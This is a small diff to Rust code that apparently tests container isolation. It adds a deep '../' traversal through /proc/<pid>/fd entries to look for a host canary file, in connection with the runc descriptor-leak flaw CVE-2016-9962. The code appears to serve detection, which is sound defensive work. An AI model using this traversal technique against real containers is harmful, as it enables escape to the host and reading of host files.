@@ -55,6 +55,9 @@ fn overwrite_executables() {
     }
 }
 
+/// From a directory to the root of what it is mounted in.
+const UP: &str = "../../../../../../../../../../../..";
+
 /// Looks for a file of the host through every process that appears (CVE-2016-9962).
 fn peek(canary: &Path) {
     let relative = canary.strip_prefix("/").unwrap();
@@ -70,6 +73,7 @@ fn peek(canary: &Path) {
             let Ok(fds) = fs::read_dir(format!("/proc/{pid}/fd")) else { continue };
             for fd in fds.flatten() {
                 seen(format!("descriptor {:?}", fs::read_link(fd.path())), fd.path());
+                seen(format!("above {:?}", fs::read_link(fd.path())), fd.path().join(UP));
                 seen(format!("procfs {:?}", fs::read_link(fd.path())), fd.path().join("1/root"));
             }
         }
